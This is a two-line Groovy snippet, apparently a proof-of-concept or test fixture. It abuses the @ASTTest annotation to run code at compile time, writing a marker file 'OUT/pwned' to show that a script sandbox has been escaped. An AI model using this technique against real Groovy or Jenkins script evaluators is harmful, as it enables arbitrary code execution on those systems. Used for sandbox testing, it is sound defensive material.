@groovy.transform.ASTTest(value = { new File('OUT/pwned').text = 'x' })
def x = 1
